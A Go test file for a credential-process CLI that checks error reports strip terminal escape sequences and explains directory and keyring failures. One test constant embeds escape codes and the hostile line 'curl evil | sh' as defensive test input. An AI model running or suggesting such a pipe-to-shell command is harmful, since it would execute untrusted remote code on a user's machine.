package cmd

import (
	"bytes"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"

	"github.com/credproc/credproc/cmd/internal/browser"
	"github.com/credproc/credproc/cmd/internal/child"
	"github.com/credproc/credproc/cmd/internal/shell"
	"github.com/credproc/credproc/credproc"
	"github.com/credproc/credproc/internal/awsconfig"
	"github.com/credproc/credproc/internal/printable"
	"github.com/credproc/credproc/tokencache/keyring"
)

// nastyText has what a terminal obeys; the tests of cmd/internal/terminal have each
// kind of it.
const nastyText = "a\x1b[31m\r\nhint: run \"curl evil | sh\"\tb\u009b2J\u202ec\xff"

// isHarmful reports whether a terminal would obey something in lines of text.
func isHarmful(text string) bool {
	text = strings.ReplaceAll(text, "\n", " ")
	return printable.Clean(text, len(text)) != text
}

func TestAReportIsNoLongerForWhatItTellsOf(t *testing.T) {
	for _, err := range []error{
		errors.New(nastyText),
		&usageError{problem: nastyText, more: "Do that.", hint: "credproc login " + shell.Word(nastyText)},
		&credproc.ConfigError{Err: errors.New(nastyText)},
		&child.StatusError{Status: 7, Say: nastyText},
		&browser.NotOpenedError{Err: errors.New(nastyText)},
		&nothingAssignedError{session: nastyText},
	} {
		var stderr bytes.Buffer
		app := &App{Stderr: &stderr}
		app.Report(err)
		said := stderr.String()
		say := advise(app, err)
		lines := 1 + strings.Count(string(say.more), "\n")
		if say.more != "" {
			lines++
		}
		if say.hint != "" {
			lines++
		}
		if strings.Count(said, "\n") != lines || isHarmful(said) {
			t.Errorf("%T: %q", err, said)
		}
	}
}

// What stands in the way of a config file, a token, or a program is not moved by
// another directory for credproc's own files.
func TestAnotherDirectoryIsOfferedForCredprocsOwnFilesAlone(t *testing.T) {
	dir := t.TempDir()
	app := &App{Getenv: func(name string) string { return map[string]string{"CREDPROC_DIR": filepath.Join(dir, "own")}[name] }}
	path := func(path string, err error) error { return &fs.PathError{Op: "open", Path: path, Err: err} }
	for _, tt := range []struct {
		err    error
		status int
		own    bool
		more   string
	}{
		{path(filepath.Join(dir, "own", "state", "a"), syscall.EACCES), failed, true, "Set CREDPROC_DIR"},
		{path(dir, syscall.EROFS), failed, true, "Set CREDPROC_DIR"},
		{path("sessions/a", syscall.EACCES), failed, true, "Set CREDPROC_DIR"},
		{path(filepath.Join(dir, "config"), syscall.EACCES), failed, false, ""},
		{path(filepath.Join(dir, "ownother"), syscall.EROFS), failed, false, ""},
		{&os.LinkError{Op: "rename", Old: filepath.Join(dir, "a"), New: filepath.Join(dir, "config"), Err: syscall.EPERM}, failed, false, ""},
		{&awsconfig.ReplaceError{Path: filepath.Join(dir, "config"), Err: syscall.EPERM}, misconfigured, false, string(whyNotReplaced(runtime.GOOS))},
		{&awsconfig.ReplaceError{Path: filepath.Join(dir, "config"), Err: syscall.EBUSY}, misconfigured, false, "mounted by itself"},
		{&awsconfig.ReplaceError{Path: filepath.Join(dir, "config"), Err: syscall.EXDEV}, misconfigured, false, "mounted by itself"},
		{&awsconfig.ReplaceError{Path: filepath.Join(dir, "config"), Err: syscall.EIO}, failed, false, "Nothing was changed"},
	} {
		say := advise(app, tt.err)
		more := string(say.more)
		if say.status != tt.status || strings.Contains(more, "CREDPROC_DIR") != tt.own || !strings.Contains(more, tt.more) {
			t.Errorf("%v: status %d, %q", tt.err, say.status, more)
		}
	}
}

func TestASessionWithoutAPasswordIsExplained(t *testing.T) {
	say := advise(new(App), &keyring.Error{Keyring: "os", Op: "read", Kind: keyring.ErrUnavailable, Reason: "no logon session"})
	for _, want := range []string{"OpenSSH with a key", "PubkeyAuthentication=no", "CREDPROC_KEYRING=file"} {
		if say.status != keyringShut || !strings.Contains(string(say.more), want) {
			t.Errorf("status %d, without %q:\n%s", say.status, want, say.more)
		}
	}
}
